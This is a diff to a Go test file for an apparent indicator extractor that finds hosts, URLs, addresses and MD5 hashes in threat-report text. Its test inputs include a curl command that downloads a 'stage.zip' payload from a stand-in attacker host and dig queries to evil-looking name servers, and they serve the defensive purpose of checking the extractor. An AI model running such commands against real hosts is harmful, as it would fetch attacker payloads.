@@ -92,6 +92,8 @@ func TestExtractFinds(t *testing.T) {
 		{"arguments of commands", "`dig @ns1.evil.name k1.evil.rs`, `curl -so stage.zip evil.link/d/stage.zip`; ping -n 1 evil.watch", []string{
 			"Host ns1.evil.name", "Host k1.evil.rs", "Host evil.link", "Host evil.watch"}},
 		{"a row that says what it has", "| Value | Kind |\n|---|---|\n| evil.sh | domain |\n| `evil.link` | file name |\n", []string{"Host evil.sh"}},
+		{"a cell behind one with commas of its own", "name,md5,imphash\n\"a, b\",d41d8cd98f00b204e9800998ecf8427e,x\n", []string{"File D41D8CD98F00B204E9800998ECF8427E"}},
+		{"a scheme with a prefix", "git+https://evil-site.com/a", []string{"URL https://evil-site.com/a"}},
 		{"a port", "logs.penstock.me:6514 is down", []string{"Host logs.penstock.me"}},
 		{"user information", "root@192.0.2.1 http://user:pass@evil-site.com/", []string{"Address 192.0.2.1", "URL http://evil-site.com/"}},
 	} {
@@ -160,6 +162,8 @@ func TestExtractKnowsTheSection(t *testing.T) {
 	assert.Equal(t, []string{"Host evil.zip"}, values(t, text))
 	table := "name,imphash,size\n" + strings.Repeat("a,d41d8cd98f00b204e9800998ecf8427e,1\n", windowSize/16)
 	assert.Zero(t, len(values(t, table)), "the header of a table holds, too")
+	quoted := "name,imphash,size\n" + strings.Repeat("a,d41d8cd98f00b204e9800998ecf8427e,1\n\"a\",\"d41d8cd98f00b204e9800998ecf8427e\",\"1\"\n", windowSize/8)
+	assert.Zero(t, len(values(t, quoted)), "quotes hold for their line only")
 	assert.Equal(t, []string{"Address 10.2.3.4"}, values(t, "## Versions of servers\n- 10.2.3.4\n"), "a heading that says two things says nothing")
 	assert.Equal(t, []string{"File D41D8CD98F00B204E9800998ECF8427E"}, values(t, "## Key findings\n- d41d8cd98f00b204e9800998ecf8427e\n"))
 }
